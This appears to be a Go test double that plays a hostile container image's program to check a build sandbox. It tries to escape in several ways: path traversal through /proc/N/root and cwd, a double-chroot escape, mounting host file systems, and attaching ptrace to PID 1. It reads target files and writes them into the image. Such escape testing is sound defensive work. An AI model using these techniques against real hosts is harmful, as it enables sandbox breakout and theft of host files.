// Command attacker is a TEST DOUBLE of a hostile image's program: tests of
// the build sandbox install it as the image's systemctl or apt-get, which
// customize.sh runs. It tries every way out of the sandbox it knows to write
// marker files at host paths and to read host files, and reports on stderr
// ("attacker: ..."). What it manages to read it writes into the image
// (/root/stolen-N), where the test looks for it. It always exits 0.
//
// The host paths are in the image's /attacker-targets, one a line: "write
// PATH" (a marker to create) or "read PATH" (a file to steal).
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
)

func logf(format string, args ...any) { fmt.Fprintf(os.Stderr, "attacker: "+format+"\n", args...) }

// ways are the paths under which p might be reached from inside.
func ways(p string) []string {
	out := []string{p, "/proc/1/root" + p, "/proc/self/root" + p, "../../../../../../../../.." + p}
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err == nil {
			out = append(out, "/proc/"+e.Name()+"/root"+p, "/proc/"+e.Name()+"/cwd/../../../../../../.."+p)
		}
	}
	return out
}

func main() {
	logf("started as %s, uid %d, pid %d", strings.Join(os.Args, " "), os.Getuid(), os.Getpid())
	var writes, reads []string
	b, _ := os.ReadFile("/attacker-targets")
	for _, l := range strings.Split(string(b), "\n") {
		if p, ok := strings.CutPrefix(l, "write "); ok {
			writes = append(writes, p)
		} else if p, ok := strings.CutPrefix(l, "read "); ok {
			reads = append(reads, p)
		}
	}
	stolen := 0
	steal := func(how string, b []byte) {
		stolen++
		logf("READ %s (%d bytes)", how, len(b))
		os.MkdirAll("/root", 0o700)
		os.WriteFile(fmt.Sprintf("/root/stolen-%d", stolen), b, 0o600)
	}
	try := func(tag string) {
		// Writes that succeed land inside the image (the paths resolve
		// there); the test looks for them on the host.
		n := 0
		for _, w := range writes {
			for _, p := range ways(w) {
				os.MkdirAll(filepath.Dir(p), 0o755)
				if err := os.WriteFile(p, []byte("escaped via "+p+"\n"), 0o644); err == nil {
					n++
				}
			}
		}
		logf("%s: %d writes went through (inside or out)", tag, n)
		for _, r := range reads {
			for _, p := range ways(r) {
				if b, err := os.ReadFile(p); err == nil {
					steal(tag+": "+p, b)
				}
			}
		}
	}
	try("plain")
	// The classic chroot escape: a chroot below the root, then up.
	os.MkdirAll("/tmp/attacker-jail", 0o755)
	if err := syscall.Chroot("/tmp/attacker-jail"); err == nil {
		for range 64 {
			syscall.Chdir("..")
		}
		if err := syscall.Chroot("."); err == nil {
			try("chroot escape")
		}
	}
	// Mounting the host's file systems, tracing or signalling the stage.
	for _, m := range [][3]string{{"proc", "/mnt", "proc"}, {"sysfs", "/mnt", "sysfs"}, {"/dev/vda", "/mnt", "ext4"}} {
		os.MkdirAll("/mnt", 0o755)
		if err := syscall.Mount(m[0], m[1], m[2], 0, ""); err == nil {
			logf("mounted %s on %s", m[0], m[1])
			try("after mounting " + m[0])
			syscall.Unmount(m[1], syscall.MNT_DETACH)
		}
	}
	if err := syscall.PtraceAttach(1); err == nil {
		logf("traced pid 1")
		syscall.PtraceDetach(1)
	}
	for _, fd := range []string{"3", "4"} {
		if f, err := os.OpenFile("/proc/1/fd/"+fd, os.O_WRONLY, 0); err == nil {
			logf("opened pid 1's fd %s", fd)
			f.Close()
		}
	}
	logf("done: %d files read", stolen)
}
